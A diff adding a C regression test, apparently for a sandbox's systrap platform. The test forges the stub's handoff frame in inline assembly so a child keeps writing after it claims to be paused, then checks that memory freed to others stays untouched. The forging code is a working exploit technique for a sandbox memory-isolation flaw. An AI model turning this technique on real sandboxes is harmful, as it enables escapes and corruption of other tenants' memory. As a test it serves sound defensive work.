@@ -1,0 +1,156 @@
+/*
+ * A program that knows how systrap's stub hands over, says that it is in pause(), and runs on. Its pages are then
+ * taken from it (the file that it has mapped becomes empty) and serve others: nothing that it writes may arrive there.
+ * On Linux, and where no such stub is, there is nothing to forge, and the file just becomes empty.
+ *
+ * The stub's code is found by its bytes; where its words lie is written down here once more, as an attacker would have it.
+ */
+#include <errno.h>
+#include <setjmp.h>
+#include <signal.h>
+#include <stdint.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mman.h>
+#include <sys/syscall.h>
+#include <sys/wait.h>
+#include <time.h>
+
+#include "harness.h"
+
+#define PAGE 4096ul
+#define CODE 0x7ffffff02000ul
+#define CODE_SIZE 0x3000ul
+#define SHARED 64ul  /* pages of the file */
+#define VICTIM 2048ul /* pages of memory that others get */
+#define PATTERN 0x6d656e6573212121ul
+
+static sigjmp_buf back;
+
+static void jump_back(int signo)
+{
+	siglongjmp(back, 1);
+}
+
+/* Where the stub says that it has handed over: mov $1,%eax; xchg %eax,(%rbp). NULL: no such code here. */
+static const uint8_t *find_hand_over(void)
+{
+	static const uint8_t bytes[] = {0xb8, 1, 0, 0, 0, 0x87, 0x45, 0};
+	const uint8_t *volatile at = (const uint8_t *)CODE;
+
+	signal(SIGSEGV, jump_back);
+	if (sigsetjmp(back, 1))
+		at = NULL;
+	while (at && at < (const uint8_t *)CODE + CODE_SIZE - sizeof(bytes) && memcmp(at, bytes, sizeof(bytes)) != 0)
+		at++;
+	signal(SIGSEGV, SIG_DFL);
+	return at == (const uint8_t *)CODE + CODE_SIZE - sizeof(bytes) ? NULL : at;
+}
+
+/*
+ * The frame that a real call left becomes pause() for the sentry and a way to 1: for ourselves; the stub is told that the
+ * next stretch has been asked for already. rbx and rbp are what the stub's code wants: orders and area.
+ */
+static void __attribute__((noreturn)) forge(const uint8_t *hand_over, volatile uint64_t *pages)
+{
+	register uint64_t r12 __asm__("r12") = (uint64_t)pages, r13 __asm__("r13") = PATTERN;
+
+	syscall(SYS_getpgid, 0);
+	__asm__ volatile("movabsq $0x7ffffff00000, %%rbx\n\t"
+			 "movq 0x50(%%rbx), %%rcx\n\t"     /* the frame to go on from */
+			 "leaq 1f(%%rip), %%rax\n\t"
+			 "movq %%rax, 176(%%rcx)\n\t"      /* rip */
+			 "movq $34, 152(%%rcx)\n\t"        /* rax: pause */
+			 "movq %%r12, 80(%%rcx)\n\t"       /* r12 */
+			 "movq %%r13, 88(%%rcx)\n\t"       /* r13 */
+			 "movl 0x40(%%rbx), %%eax\n\t"
+			 "decl %%eax\n\t"
+			 "movabsq $0x7ffffff10000, %%rcx\n\t"
+			 "movl %%eax, 8(%%rcx)\n\t"        /* seen: not what is asked for */
+			 "movq %%rcx, %%rbp\n\t"
+			 "jmp *%0\n"
+			 "1:\tmovq %%r12, %%rax\n"
+			 "2:\tmovq %%r13, (%%rax)\n\t"
+			 "addq $4096, %%rax\n\t"
+			 "leaq 262144(%%r12), %%rcx\n\t"
+			 "cmpq %%rcx, %%rax\n\t"
+			 "jb 2b\n\t"
+			 "jmp 1b"
+			 :
+			 : "r"(hand_over), "r"(r12), "r"(r13)
+			 : "rax", "rbx", "rcx", "memory");
+	__builtin_unreachable();
+}
+
+static uint64_t milliseconds(void)
+{
+	struct timespec t;
+
+	clock_gettime(CLOCK_MONOTONIC, &t);
+	return (uint64_t)t.tv_sec * 1000 + (uint64_t)t.tv_nsec / 1000000;
+}
+
+/* It writes without a call: zeros do not last. */
+static int runs_on(volatile uint64_t *pages)
+{
+	uint64_t until = milliseconds() + 3000;
+
+	while (milliseconds() < until) {
+		pages[0] = 0;
+		usleep(2000);
+		if (pages[0] == PATTERN)
+			return 1;
+	}
+	return 0;
+}
+
+/* Memory that just got free serves us; does anybody write to it? */
+static void use_what_was_theirs(void)
+{
+	uint64_t *p = mmap(NULL, VICTIM * PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+	uint64_t until = milliseconds() + 150;
+	unsigned long bad = 0;
+
+	for (unsigned long i = 0; i < VICTIM; i++)
+		p[i * PAGE / 8] = i;
+	while (milliseconds() < until) {
+		for (unsigned long i = 0; i < VICTIM; i++)
+			bad += p[i * PAGE / 8] != i;
+		usleep(1000);
+	}
+	CHECK(bad == 0);
+	munmap(p, VICTIM * PAGE);
+}
+
+int main(void)
+{
+	int fd = (int)syscall(SYS_memfd_create, "theirs", 0), status;
+	volatile uint64_t *pages;
+	pid_t pid;
+
+	CHECK(fd >= 0 && ftruncate(fd, SHARED * PAGE) == 0);
+	pages = mmap(NULL, SHARED * PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
+	CHECK(pages != MAP_FAILED);
+	pid = fork();
+	if (!pid) {
+		const uint8_t *hand_over = find_hand_over();
+
+		for (unsigned long i = 0; i < SHARED; i++)
+			pages[i * PAGE / 8] = PATTERN;
+		if (hand_over)
+			forge(hand_over, pages);
+		for (;;)
+			pause();
+	}
+	while (pages[(SHARED - 1) * PAGE / 8] != PATTERN)
+		usleep(1000);
+	usleep(20000);
+	if (getenv("FORGE_MUST_RUN"))
+		CHECK(runs_on(pages));
+	CHECK(ftruncate(fd, 0) == 0);
+	use_what_was_theirs();
+	kill(pid, SIGKILL);
+	CHECK(waitpid(pid, &status, 0) == pid && WIFSIGNALED(status));
+	puts("done");
+	return CHECK_RESULT();
+}
